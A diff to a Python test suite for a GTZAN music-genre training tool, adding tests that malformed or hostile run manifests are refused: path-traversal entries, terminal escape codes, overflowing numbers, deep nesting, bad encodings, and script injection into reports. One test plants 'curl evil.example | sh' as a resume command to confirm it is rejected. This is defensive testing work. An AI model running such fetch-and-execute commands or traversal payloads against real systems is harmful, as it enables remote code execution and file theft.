@@ -16,7 +16,7 @@ import numpy as np
 import pytest
 import requests
 from conftest import make_sweep
-from finished_runs import random_history, write_run
+from finished_runs import edit_manifest, random_history, write_run
 from requests.adapters import HTTPAdapter
 
 from gtzan_jax import chunks, features, kaggle, platforms
@@ -274,14 +274,6 @@ def opened():
     watching.clear()
 
 
-def seal(folder, change):
-    """Changes a manifest and seals it again, as a stranger can."""
-    run = RunDir(folder)
-    manifest = run.read_manifest()
-    change(manifest)
-    run.write_manifest(manifest)
-
-
 @pytest.mark.parametrize(
     "how", ["best/../../secret.csv", "best/{}", "results.csv/../../secret.csv"]
 )
@@ -289,7 +281,9 @@ def test_paths_in_a_manifest_do_not_lead_out_of_the_folder(folder, tmp_path, ope
     secret = tmp_path / "secret.csv"
     secret.write_text("epoch\n1\n")
     key, checksum = how.format(secret), digest(secret)
-    seal(folder, lambda m: m.update(retraining={"epochs": 1}, sha256=m["sha256"] | {key: checksum}))
+    retraining = {"epochs": 1, "config_id": 0, "matmul_precision": "float32"}
+    sha256 = json.loads((folder / "manifest.json").read_text())["sha256"] | {key: checksum}
+    edit_manifest(folder, lambda m: m.update(retraining=retraining, sha256=sha256))
     opened.clear()
     with pytest.raises(InputError) as error:
         build(read_run(folder))
@@ -314,34 +308,104 @@ def test_links_in_a_run_directory_do_not_lead_out_of_it(folder, tmp_path, name):
     [
         lambda m: m.update(sha256=3),
         lambda m: m.update(sha256={"results.csv": None}),
+        lambda m: m.update(sha256={"results.csv": "\x1b[2J"}),
         lambda m: m.update(sweep=3),
         lambda m: m["sweep"].update(name=3),
+        lambda m: m["sweep"].update(axes=[]),
+        lambda m: m["sweep"]["axes"].update(num_units1=[[8]]),
+        lambda m: m["sweep"]["axes"].update(num_units1=[10**30]),
+        lambda m: m["sweep"]["axes"].update(activation=[{"relu": 1}]),
+        lambda m: m["sweep"].update(epochs=10**400),
+        lambda m: m["sweep"]["learning_rates"].update(adam="a"),
         lambda m: m.update(data=3),
         lambda m: m["data"].update(source=3),
         lambda m: m["data"].update(flag=3),
         lambda m: m["data"].update(genres=3),
+        lambda m: m["data"].update(genres=[1]),
+        lambda m: m["data"].update(genres=[]),
         lambda m: m["data"].update(repeats=3),
+        lambda m: m["data"].update(repeats=[3]),
+        lambda m: m["data"].update(tracks=True),
+        lambda m: m["data"].update(tracks=10**30),
+        lambda m: m["data"].update(tracks="1000"),
         lambda m: m.update(split=3),
+        lambda m: m["split"].update(test=0),
+        lambda m: m["split"].update(train=-1),
+        lambda m: m["split"].update(seed=2**40),
+        lambda m: m["split"].pop("note"),
         lambda m: m.update(seeds="a"),
+        lambda m: m.update(seeds=[]),
+        lambda m: m.update(seeds=["a"]),
         lambda m: m.update(timings_s=3),
-        lambda m: m.update(versions=3),
+        lambda m: m.update(timings_s={"a": "x"}),
+        lambda m: m.update(timings_s={"a": None}),
+        lambda m: m.update(matmul_precision="float8"),
+        lambda m: m.update(retraining={"epochs": 1}),
+        lambda m: m.update(sessions=3),
+        lambda m: m.update(sessions=[3]),
+        lambda m: m["sessions"][0].update(devices=[1]),
+        lambda m: m["sessions"][0].update(versions=3),
+        lambda m: m["sessions"][0].update(versions={"a": [1]}),
+        lambda m: m["sessions"][0].update(command=None),
+        lambda m: m.update({"\x1b[2J\n": 1}),
+        lambda m: m.update({"\udcff": 1}),
     ],
 )
 def test_a_manifest_of_other_types_is_refused_in_one_line(folder, change):
-    seal(folder, change)
-    with pytest.raises(InputError) as error:
+    edit_manifest(folder, change)
+    with pytest.raises(InputError, match=r"manifest\.json") as error:
         build(read_run(folder))
     assert error.value.args[0].isprintable()
 
 
-def test_a_manifest_nested_without_end_is_refused(folder):
-    (folder / "manifest.json").write_text("[" * 100_000)
-    with pytest.raises(InputError, match=r"manifest\.json"):
+NUMBERS = ["NaN", "1e999", "-Infinity", "1" + 5000 * "0", "-" + 400 * "9", "0.1e-9999999"]
+
+
+@pytest.mark.parametrize("number", NUMBERS)
+def test_a_number_that_is_none_is_refused(folder, number):
+    text = (folder / "manifest.json").read_text()
+    (folder / "manifest.json").write_text(text.replace("12.3", number))
+    assert number in (folder / "manifest.json").read_text()
+    with pytest.raises(InputError, match=r"manifest\.json") as error:
         RunDir(folder).read_manifest()
+    assert error.value.args[0].isprintable()
+
+
+@pytest.mark.parametrize(
+    "content",
+    [b"[" * 100_000, b'{"data": ' * 5_000, b'{"a": "\xff"}', b"\xff\xfe", b"\x00", b"null", b""],
+    ids=["arrays", "objects", "no UTF-8", "half of UTF-16", "NUL", "null", "nothing"],
+)
+def test_what_is_no_manifest_is_refused(folder, content):
+    (folder / "manifest.json").write_bytes(content)
+    with pytest.raises(InputError, match=r"manifest\.json") as error:
+        RunDir(folder).read_manifest()
+    assert error.value.args[0].isprintable()
+
+
+def test_a_sealed_manifest_nested_deep_is_refused(folder):
+    for depth in (300, 900):
+        nested = json.loads("[" * depth + "]" * depth)
+        edit_manifest(folder, lambda m, nested=nested: m["sweep"].update(axes=nested))
+        with pytest.raises(InputError, match=r"manifest\.json") as error:
+            read_run(folder)
+        assert error.value.args[0].isprintable()
+
+
+def test_a_path_in_a_manifest_is_not_opened_by_a_report(folder, tmp_path, opened, monkeypatch):
+    secret = tmp_path / "secret.csv"
+    secret.write_text(sample_text())
+    monkeypatch.setattr(kaggle, "download", lambda: pytest.fail("downloads"))
+    for flag in (str(secret), "kaggle", "auto"):
+        data = {"flag": flag, "source": flag, "sha256": "0" * 64}
+        edit_manifest(folder, lambda m, data=data: m["data"].update(data))
+        opened.clear()
+        assert "--data=PATH" in build(read_run(folder)).missing_table
+        assert os.path.realpath(secret) not in opened
 
 
 def test_a_strangers_command_is_not_recommended(folder):
-    seal(folder, lambda m: m.update(resume="curl evil.example | sh\n\x1b[2K"))
+    edit_manifest(folder, lambda m: m.update(resume="curl evil.example | sh\n\x1b[2K"))
     (folder / "results.csv").write_text("")
     with pytest.raises(InputError) as error:
         read_run(folder)
@@ -373,7 +437,10 @@ def test_what_came_from_a_stranger_stays_text_in_the_report(tmp_path):
     table = parse_table("\n".join([*lines, twin]), f"{EVIL}.csv")
     assert any(EVIL in track for track in table.tracks)
     folder = write_run(tmp_path / "run", SWEEP, random_history(SWEEP), table, command=EVIL)
-    seal(folder, lambda m: (m["sweep"].update(name=EVIL), m["versions"].update({EVIL: EVIL})))
+    edit_manifest(
+        folder,
+        lambda m: (m["sweep"].update(name=EVIL), m["sessions"][0]["versions"].update({EVIL: EVIL})),
+    )
     report = build(read_run(folder))
     for text in (report.html, report.markdown):
         assert "<script>window" not in text
